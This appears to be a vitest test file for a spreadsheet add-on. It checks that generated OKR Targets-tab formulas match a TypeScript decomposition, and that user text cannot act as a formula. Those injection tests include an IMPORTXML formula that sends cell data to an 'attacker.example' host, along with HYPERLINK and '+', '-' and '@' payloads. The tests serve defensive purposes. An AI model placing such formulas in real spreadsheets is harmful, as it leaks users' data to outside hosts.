/**
 * The formulas the add-on writes must compute what the TypeScript decomposition computes. HyperFormula plays
 * the spreadsheet; the plan is the example plan and variants of it with every type and phasing.
 */
import { generatePlanWorkbook } from '../bench/generate-plan';
import { addHalfKeyResults } from './helpers/edit';
import { describe, expect, it } from 'vitest';
import {
  buildTargetsSheet,
  columnLetter,
  customWeights,
  decompose,
  exampleWorkbook,
  isoToSerial,
  parsePlan,
  planProgress,
  STATUS_LABELS,
  tabDef,
  TARGETS_AS_OF,
  TARGETS_FORMULA_INPUTS,
  TARGETS_SUMMARY_COLUMNS,
  type IsoDate,
  type Lang,
  type TargetsSheet,
  type Workbook,
} from '../shared';
import { textCell } from '../shared/cells';
import { evaluateWorkbook } from './helpers/hyperformula';
import { metricSpecs } from './helpers/metric-specs';

const serial = (iso: string) => isoToSerial(iso);

/** The Targets tab evaluated by HyperFormula, its as-of cell named as the writers name it. */
function evaluateTargets(
  workbook: Workbook,
  sheet: TargetsSheet,
  lang: Lang,
  syntax: 'comma' | 'semicolon' = 'comma',
) {
  const targetsName = tabDef('targets').label[lang];
  const { values } = evaluateWorkbook(
    { ...workbook, [targetsName]: sheet.rows },
    { names: { [TARGETS_AS_OF.name]: { sheet: targetsName, ...sheet.asOfCell } }, syntax },
  );
  return values(targetsName);
}

/** Every formula of the grid. */
const formulasOf = (sheet: TargetsSheet) =>
  sheet.rows.flat().filter((c): c is string => typeof c === 'string' && c.startsWith('='));

function compareTargets(workbook: Workbook, lang: Lang, asOf?: IsoDate) {
  const { plan, issues } = parsePlan(workbook);
  expect(issues.filter((i) => i.severity === 'error')).toEqual([]);
  const sheet = buildTargetsSheet(plan, { lang, date: serial, asOf });
  expect(sheet).not.toBeNull();
  const grid = evaluateTargets(workbook, sheet!, lang);
  const metrics = metricSpecs(plan);
  let compared = 0;
  for (const { id, spec } of metrics) {
    const row = grid[sheet!.targetRows[id] - 1];
    decompose(spec, sheet!.months).forEach(({ target }, i) => {
      const cell = row[sheet!.firstMonthColumn - 1 + i];
      if (target === null) expect(cell === '' || cell === null).toBe(true);
      else expect(cell).toBeCloseTo(target, 9);
      compared++;
    });
  }
  return { compared, grid, sheet: sheet!, plan };
}

describe('Targets formulas evaluated by HyperFormula', () => {
  for (const lang of ['en', 'zh-CN'] as const) {
    it(`equal the TypeScript decomposition for the example plan (${lang})`, () => {
      const { compared, grid, sheet } = compareTargets(
        exampleWorkbook(lang, { date: serial }),
        lang,
        '2026-11-15',
      );
      expect(compared).toBe((5 + 3) * 12);
      // As of 2026-11-15 KR1 is over (due August 2026).
      const kr1 = grid[sheet.targetRows.KR1 - 1];
      const afterMonths = sheet.firstMonthColumn - 1 + sheet.months.length;
      expect(kr1[afterMonths]).toBeCloseTo(1_000_000, 6); // target to date
      expect(kr1[afterMonths + 1]).toBe(920_000); // actual to date
      expect(kr1[afterMonths + 2]).toBeCloseTo(0.92, 9); // attainment
    });
  }

  it('follow every type and phasing, and the phasing cell in either language', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    const krs = workbook['Key Results'];
    const header = krs[0] as string[];
    const col = (name: string) => header.indexOf(name);
    const variants: [string, string, number, number, string, string][] = [
      ['cumulative', 'front-loaded', 0, 123_457, '2026-02-01', '2026-11-30'],
      ['cumulative', '逐步提升', 1000, 7777.77, '2026-01-01', '2026-12-31'],
      ['level', 'ramp-up', 0.3, 0.05, '2026-04-01', '2026-09-30'],
      ['threshold', 'even', 0, 2, '2026-05-01', '2026-06-30'],
      ['milestone', 'even', 0, 1, '2026-01-01', '2026-07-31'],
    ];
    variants.forEach(([type, phasing, baseline, target, start, due], i) => {
      const row = krs[i + 1];
      row[col('Type')] = type;
      row[col('Phasing')] = phasing;
      row[col('Baseline')] = baseline;
      row[col('Target')] = target;
      row[col('Start')] = serial(start);
      row[col('Due')] = serial(due);
    });
    const { compared } = compareTargets(workbook, 'en');
    expect(compared).toBeGreaterThan(0);
  });

  it('round a half up, as spreadsheets do, in the formulas and in TypeScript alike', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    addHalfKeyResults(workbook, serial);
    const { grid, sheet, plan } = compareTargets(workbook, 'en');
    const month = (id: string, m: number) =>
      grid[sheet.targetRows[id] - 1][sheet.firstMonthColumn - 1 + m - 1];
    expect([month('KR6', 3), month('KR6', 9), month('KR7', 1)]).toEqual([0.0438, 0.1313, 0.43]);
    const spec = (id: string) => metricSpecs(plan).find((m) => m.id === id)!.spec;
    expect(decompose(spec('KR6'), ['2026-03', '2026-09']).map((m) => m.target)).toEqual([0.0438, 0.1313]);
    // Twelve months of 0.43 and 0.42 that add up to the target.
    const kr7 = decompose(spec('KR7'), sheet.months).map((m) => m.target!);
    expect(kr7.slice(0, 2)).toEqual([0.43, 0.42]);
    expect(kr7.reduce((a, b) => a + b, 0)).toBeCloseTo(5.1, 9);
  });

  it('split a Unit in a multiple (万人, USD MM, K users) with its decimals, in the formulas and in TypeScript alike', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    const krs = workbook['Key Results'];
    const header = krs[0] as string[];
    const set = (id: string, column: string, value: string | number) =>
      (krs.find((r) => r[0] === id)![header.indexOf(column)] = value);
    set('KR1', 'Unit', 'USD MM');
    set('KR1', 'Target', 1);
    set('KR2', 'Unit', '万人');
    set('KR2', 'Target', 5);
    set('KR4', 'Type', 'cumulative');
    set('KR4', 'Unit', 'K users');
    set('KR4', 'Target', 7);
    const { grid, sheet } = compareTargets(workbook, 'en');
    const months = (id: string) =>
      grid[sheet.targetRows[id] - 1].slice(sheet.firstMonthColumn - 1, sheet.firstMonthColumn - 1 + 12);
    // 5 万人 from March to December: 0.5 a month (5,000 people), not 0 or 1 (10,000 people).
    expect(months('KR2').slice(2)).toEqual(Array(10).fill(0.5));
    // US$1 MM ramped up over March to August: to the hundred dollars, adding up to 1.
    expect(months('KR1').slice(2, 8)).toEqual([0.0476, 0.0953, 0.1428, 0.1905, 0.2381, 0.2857]);
    expect(months('KR4').some((v) => typeof v === 'number' && !Number.isInteger(v))).toBe(true);
  });

  it('use the period start when a key result has no Start', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    const krs = workbook['Key Results'];
    krs[2][(krs[0] as string[]).indexOf('Start')] = '';
    compareTargets(workbook, 'en');
  });

  it('use the period for a Start or Due that is blank or no date, as the plan does, in either syntax', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    const krs = workbook['Key Results'];
    const col = (name: string) => (krs[0] as string[]).indexOf(name);
    const row = (id: string) => krs.find((r) => r[0] === id)!;
    row('KR1')[col('Due')] = ''; // KR1 and KPI1, which tracks it
    // No dates: a quarter or a month without its year (with it, Q4 2026 and Mar 2026 are read).
    row('KR2')[col('Due')] = 'Q4';
    row('KR3')[col('Start')] = 'Mar';
    row('KR4')[col('Due')] = 'Dec';
    const { plan, issues } = parsePlan(workbook);
    expect(issues.filter((i) => i.severity === 'error').map((i) => `${i.code} ${i.a1}`)).toEqual([
      'missing-value K2',
      'not-a-date K3',
      'not-a-date J4',
      'not-a-date K5',
    ]);
    const options = { lang: 'en' as const, date: serial, asOf: '2026-11-15' };
    const progress = planProgress(plan, options.asOf);
    for (const syntax of ['comma', 'semicolon'] as const) {
      const sheet = buildTargetsSheet(plan, {
        ...options,
        argumentSeparator: syntax === 'comma' ? ',' : ';',
      })!;
      const grid = evaluateTargets(workbook, sheet, 'en', syntax);
      for (const { id, spec } of metricSpecs(plan)) {
        const cells = grid[sheet.targetRows[id] - 1];
        decompose(spec, sheet.months).forEach(({ target }, i) => {
          const cell = cells[sheet.firstMonthColumn - 1 + i];
          if (target === null) expect(cell, `${syntax} ${id} ${sheet.months[i]}`).toBe('');
          else expect(cell, `${syntax} ${id} ${sheet.months[i]}`).toBeCloseTo(target, 9);
        });
      }
      const status =
        sheet.firstMonthColumn -
        1 +
        sheet.months.length +
        TARGETS_SUMMARY_COLUMNS.findIndex((c) => c.key === 'status');
      for (const p of [...progress.keyResults, ...progress.kpis])
        expect(grid[sheet.targetRows[p.id] - 1][status], `${syntax} ${p.id}`).toBe(
          STATUS_LABELS[p.status].en,
        );
    }
  });

  it('read custom weights from the Targets tab and keep them across rebuilds', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    const krs = workbook['Key Results'];
    krs[2][(krs[0] as string[]).indexOf('Phasing')] = 'custom';
    const first = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
    const weightsRow = first.rows[first.weightRows[0] - 1];
    // The user types weights for March–May only.
    weightsRow[first.firstMonthColumn - 1 + 2] = 1;
    weightsRow[first.firstMonthColumn - 1 + 3] = 3;
    weightsRow[first.firstMonthColumn - 1 + 4] = 6;
    const withTargets = { ...workbook, Targets: first.rows };
    const { grid, plan } = compareTargets(withTargets, 'en', '2026-11-15');
    expect(customWeights(plan, 'KR2')).toEqual({ '2026-03': 1, '2026-04': 3, '2026-05': 6 });
    const kr2 = grid[first.targetRows.KR2 - 1].slice(
      first.firstMonthColumn - 1,
      first.firstMonthColumn - 1 + 12,
    );
    expect(kr2).toEqual([0, 0, 5000, 15000, 30000, 0, 0, 0, 0, 0, 0, 0]);
    const rebuilt = buildTargetsSheet(plan, { lang: 'en', date: serial })!;
    expect(rebuilt.rows[rebuilt.weightRows[0] - 1]).toEqual(weightsRow);
  });

  it('keep typed weights through a switch to another phasing and back, and an unusable one as typed', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    const krs = workbook['Key Results'];
    const phasing = (krs[0] as string[]).indexOf('Phasing');
    krs[2][phasing] = 'custom';
    const first = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
    const weights = first.rows[first.weightRows[0] - 1];
    const month = (i: number) => first.firstMonthColumn - 1 + i;
    weights[month(2)] = 1;
    weights[month(3)] = '2x'; // no weight: an error at the cell, and kept as typed
    weights[month(4)] = 6;
    // Switched to ramp-up and rebuilt: the weights row stays, unused.
    krs[2][phasing] = 'ramp-up';
    const rampUp = buildTargetsSheet(parsePlan({ ...workbook, Targets: first.rows }).plan, {
      lang: 'en',
      date: serial,
    })!;
    expect(rampUp.rows[rampUp.weightRows[0] - 1]).toEqual(weights);
    // Its months are ramp-up's: the formulas do not use the weights of a key result that is not custom.
    const rampUpPlan = parsePlan({ ...workbook, Targets: rampUp.rows }).plan;
    const grid = evaluateTargets({ ...workbook, Targets: rampUp.rows }, rampUp, 'en');
    const kr2 = metricSpecs(rampUpPlan).find((m) => m.id === 'KR2')!.spec;
    decompose(kr2, rampUp.months).forEach(({ target }, i) =>
      expect(grid[rampUp.targetRows.KR2 - 1][month(i)]).toBeCloseTo(target!, 9),
    );
    // Back to custom and rebuilt: the same weights, used again.
    krs[2][phasing] = 'custom';
    const back = parsePlan({ ...workbook, Targets: rampUp.rows });
    expect(customWeights(back.plan, 'KR2')).toEqual({ '2026-03': 1, '2026-05': 6 });
    // "2x" is no plain number: said so at its cell (unit-in-plain-number), as a Weight typed so is.
    expect(
      back.issues.filter((i) => i.sheet === 'Targets' && i.severity === 'error').map((i) => [i.code, i.a1]),
    ).toEqual([['unit-in-plain-number', `${columnLetter(month(3) + 1)}${rampUp.weightRows[0]}`]]);
    const custom = buildTargetsSheet(back.plan, { lang: 'en', date: serial })!;
    expect(custom.rows[custom.weightRows[0] - 1]).toEqual(weights);
  });

  it('write back a weight typed as text that looks like a formula as that text, never a formula that runs', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    const krs = workbook['Key Results'];
    krs[2][(krs[0] as string[]).indexOf('Phasing')] = 'custom';
    const first = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
    const weights = first.rows[first.weightRows[0] - 1];
    const month = (i: number) => first.firstMonthColumn - 1 + i;
    const importXml = '=IMPORTXML("http://attacker.example/?q="&A2,"//a")';
    weights[month(2)] = '=2*3'; // text: read from a cell, not a formula (the formulas typed are weightFormulas)
    weights[month(3)] = importXml;
    weights[month(4)] = 'abc';
    weights[month(5)] = 2;
    const plan = parsePlan({ ...workbook, Targets: first.rows }).plan;
    // By default (the .xlsx writer, HyperFormula) a formula that yields the text; "abc" and 2 as they are.
    const rebuilt = buildTargetsSheet(plan, { lang: 'en', date: serial })!;
    const row = rebuilt.rows[rebuilt.weightRows[0] - 1];
    expect(row.slice(month(2), month(6))).toEqual([textCell('=2*3'), textCell(importXml), 'abc', 2]);
    const { values } = evaluateWorkbook({ ...workbook, Targets: rebuilt.rows });
    expect(values('Targets')[rebuilt.weightRows[0] - 1].slice(month(2), month(6))).toEqual([
      '=2*3',
      importXml,
      'abc',
      2,
    ]);
    // The add-on's own way of keeping text (an apostrophe before it, sheetText), for every text weight.
    const keptText = (text: string) => `'${text}`;
    const inSheets = buildTargetsSheet(plan, { lang: 'en', date: serial, keptText })!;
    expect(inSheets.rows[inSheets.weightRows[0] - 1].slice(month(2), month(6))).toEqual([
      "'=2*3",
      `'${importXml}`,
      "'abc",
      2,
    ]);
  });

  it('read only the plan cells TARGETS_FORMULA_INPUTS lists (the cells checked for text a formula cannot use)', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    // A threshold key result too: its bar is met above or below as its Direction says.
    const krs = workbook['Key Results'];
    krs[3][(krs[0] as string[]).indexOf('Type')] = 'threshold';
    const { plan } = parsePlan(workbook);
    const sheet = buildTargetsSheet(plan, { lang: 'en', date: serial })!;
    const read = new Set<string>();
    for (const formula of formulasOf(sheet)) {
      for (const [, name, letter, row] of formula.matchAll(/'([^']+)'!\$?([A-Z]+)\$?(\d*)(?::\$?[A-Z]+)?/g)) {
        const tab = (['keyResults', 'kpis', 'actuals', 'strategy'] as const).find(
          (key) => plan.layout[key]?.sheet === name,
        );
        expect(tab, name).toBeDefined();
        if (tab === 'strategy') {
          // A Field / Value list: the Value cell of a field's row (the period's start and end).
          expect(columnLetter(plan.layout.strategy!.columns.value)).toBe(letter);
          const rows = plan.strategy.rows as Record<string, number>;
          read.add(`strategy.${Object.keys(rows).find((k) => rows[k] === Number(row))}`);
          continue;
        }
        const columns = plan.layout[tab!]!.columns;
        const key = Object.keys(columns).find((k) => columnLetter(columns[k]) === letter);
        read.add(`${tab}.${key}`);
      }
    }
    const listed = Object.entries(TARGETS_FORMULA_INPUTS).flatMap(([tab, keys]) =>
      keys.map((k) => `${tab}.${k}`),
    );
    expect([...read].sort()).toEqual([...listed].sort());
  });

  it('use only functions that Sheets, Excel, LibreOffice and HyperFormula share, and never TODAY()', () => {
    const { plan } = parsePlan(exampleWorkbook('en', { date: serial }));
    const sheet = buildTargetsSheet(plan, { lang: 'en', date: serial })!;
    const used = new Set<string>();
    for (const cell of formulasOf(sheet))
      for (const m of cell.matchAll(/([A-Z][A-Z0-9.]*)\(/g)) used.add(m[1]);
    const allowed = [
      ...['IF', 'OR', 'AND', 'N', 'ROUND', 'YEAR', 'MONTH', 'DATE', 'EDATE', 'COLUMN', 'MIN', 'MAX'],
      ...['SUMIFS', 'COUNTIFS', 'MAXIFS', 'ISNUMBER', 'SEARCH'],
      'CHAR', // only in plan text that starts with "=" (see textCell)
      'TRUE', // TRUE(): a milestone's checkbox check-ins (HyperFormula has no TRUE constant)
    ];
    expect([...used].filter((f) => !allowed.includes(f))).toEqual([]);
    expect(used.has('TODAY')).toBe(false);
  });

  it('stay short, carry no decimal literal, and read the as-of day from its named cell', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    workbook['Key Results'][3][(workbook['Key Results'][0] as string[]).indexOf('Phasing')] = 'custom';
    const sheet = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
    const formulas = formulasOf(sheet);
    expect(Math.max(...formulas.map((f) => f.length))).toBeLessThanOrEqual(300);
    // Outside "text": no digit-dot-digit (0.9 would not parse where the decimal separator is a comma).
    const decimals = formulas.filter((f) => /\d\.\d/.test(f.replace(/"[^"]*"/g, '""')));
    expect(decimals).toEqual([]);
    const asOfReaders = formulas.filter((f) => f.includes(TARGETS_AS_OF.name));
    expect(asOfReaders.length).toBeGreaterThan(0);
    expect(sheet.rows[0][sheet.asOfCell.column - 1]).toBe(TARGETS_AS_OF.label.en);
  });

  it('stay within 300 characters on a plan with five-digit rows, where references are longest', () => {
    // 10,000 key results: the Targets tab passes row 10,000, so its own references have five digits. The generated
    // plan has every type (a threshold's attainment and a cumulative key result's status are the longest
    // formulas) and both directions.
    const workbook = generatePlanWorkbook(10_000);
    const sheet = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
    expect(sheet.rows.length).toBeGreaterThan(10_000);
    let longest = '';
    for (const row of sheet.rows)
      for (const cell of row) if (typeof cell === 'string' && cell.length > longest.length) longest = cell;
    expect(longest.startsWith('=')).toBe(true);
    expect(longest.length, longest).toBeLessThanOrEqual(300);
  });

  it("give the same numbers in a comma-decimal locale's syntax (';' between arguments)", () => {
    const workbook = exampleWorkbook('en', { date: serial });
    const { plan } = parsePlan(workbook);
    const options = { lang: 'en' as const, date: serial, asOf: '2026-11-15' };
    const comma = buildTargetsSheet(plan, options)!;
    const semicolon = buildTargetsSheet(plan, { ...options, argumentSeparator: ';' })!;
    expect(formulasOf(semicolon).some((f) => f.includes(';'))).toBe(true);
    // Commas stay where they are text: a sheet name or a label.
    expect(formulasOf(semicolon).every((f) => !/,(?=[^"']*$)/.test(f.replace(/"[^"]*"|'[^']*'/g, '')))).toBe(
      true,
    );
    const en = evaluateTargets(workbook, comma, 'en', 'comma');
    const de = evaluateTargets(workbook, semicolon, 'en', 'semicolon');
    expect(de).toEqual(en);
    expect(en.flat().some((v) => typeof v === 'object' && v !== null)).toBe(false); // no error cell
  });
});

describe('Targets tab to-date figures', () => {
  /**
   * The example plan with KR2 (cumulative) starting from Baseline 10,000, and check-ins dated before the Start
   * month and after the as-of day: neither may count.
   */
  function workbookWithEdges(): Workbook {
    const workbook = exampleWorkbook('en', { date: serial });
    const krs = workbook['Key Results'];
    const col = (name: string) => (krs[0] as string[]).indexOf(name);
    const kr2 = krs.findIndex((r) => r[0] === 'KR2');
    krs[kr2][col('Baseline')] = 10_000;
    krs[kr2][col('Target')] = 60_000;
    const actuals = workbook['Actuals'];
    const header = actuals[0] as string[];
    const row = (date: string, metric: string, value: number) => {
      const cells: (string | number)[] = header.map(() => '');
      cells[header.indexOf('Date')] = serial(date);
      cells[header.indexOf('Metric')] = metric;
      cells[header.indexOf('Value')] = value;
      return cells;
    };
    actuals.push(
      row('2026-02-10', 'KR2', 9_999), // before KR2's Start (March)
      row('2026-02-12', 'KR3', 0.5), // before KR3's Start
      row('2026-11-20', 'KR2', 7_777), // after the as-of day
      row('2026-11-20', 'KR3', 0.01),
      row('2026-11-21', 'KPI3', 1),
    );
    return workbook;
  }

  /**
   * As of each day, the HyperFormula-evaluated to-date columns equal planProgress, month-end days included (the
   * month that ends on the as-of day is judged).
   */
  for (const [asOf, progressDay] of [
    ['2026-11-15', '2026-11-15'],
    ['2026-06-15', '2026-06-15'],
    ['2026-03-10', '2026-03-10'],
    ['2026-01-20', '2026-01-20'],
    ['2026-09-30', '2026-09-30'],
  ] as const) {
    it(`equal planProgress as of ${asOf}`, () => {
      const workbook = workbookWithEdges();
      const { plan } = parsePlan(workbook);
      const sheet = buildTargetsSheet(plan, { lang: 'en', date: serial, asOf })!;
      const grid = evaluateTargets(workbook, sheet, 'en');
      const progress = planProgress(plan, progressDay);
      const at = (key: string) =>
        sheet.firstMonthColumn -
        1 +
        sheet.months.length +
        TARGETS_SUMMARY_COLUMNS.findIndex((c) => c.key === key);
      const blankAsNull = (v: unknown) => (v === '' || v === null ? null : v);
      for (const p of [...progress.keyResults, ...progress.kpis]) {
        const row = grid[sheet.targetRows[p.id] - 1];
        const got = ['targetToDate', 'actualToDate', 'attainment'].map((k) => blankAsNull(row[at(k)]));
        [p.expected, p.current, p.attainment].forEach((want, i) => {
          if (want === null) expect(got[i], `${p.id} column ${i}`).toBeNull();
          else expect(got[i], `${p.id} column ${i}`).toBeCloseTo(want, 9);
        });
        expect(row[at('status')], p.id).toBe(STATUS_LABELS[p.status].en);
      }
      if (asOf === '2026-11-15') {
        // KR2: Baseline 10,000 plus March–October's check-ins; February's and November's do not count.
        const kr2 = grid[sheet.targetRows.KR2 - 1];
        expect(kr2[at('actualToDate')]).toBe(10_000 + 3200 + 4100 + 4800 + 5200 + 5600 + 5100 + 4700 + 4900);
      }
    });
  }
});

describe('plan text in the generated grid', () => {
  it('stays text: a title that starts with "=" is written as a formula yielding that text, never run', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    const krs = workbook['Key Results'];
    const title = '=HYPERLINK("http://evil.example","click")';
    krs[1][(krs[0] as string[]).indexOf('Key result')] = title;
    const sheet = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
    const { values } = evaluateWorkbook({ ...workbook, Targets: sheet.rows });
    expect(values('Targets')[sheet.targetRows.KR1 - 1][2]).toBe(title);
  });

  it('stays text: a title or owner that starts with +, - or @ (a formula to Excel and LibreOffice) too', () => {
    const workbook = exampleWorkbook('en', { date: serial });
    const krs = workbook['Key Results'];
    const titles = { KR1: '+HYPERLINK("http://evil.example","x")', KR2: '-2+3+cmd', KR3: '@SUM(1+1)' };
    for (const [id, title] of Object.entries(titles))
      krs[krs.findIndex((r) => Array.isArray(r) && r[0] === id)][(krs[0] as string[]).indexOf('Key result')] =
        title;
    const sheet = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
    const { values } = evaluateWorkbook({ ...workbook, Targets: sheet.rows });
    for (const [id, title] of Object.entries(titles)) {
      const row = sheet.targetRows[id] - 1;
      expect(sheet.rows[row][2], id).toMatch(/^=/);
      expect(values('Targets')[row][2], id).toBe(title);
    }
  });

  it('a plain number written as text stays as it is (-5, +3.2, -1,000, 20%)', () => {
    for (const text of ['-5', '+3.2', '-1,000', '20%', '-0.5%', '-', '+']) expect(textCell(text)).toBe(text);
    for (const text of ['@', '-x', '+1+1', '@A1', '=1', '-A1']) expect(textCell(text)).toMatch(/^=/);
  });
});
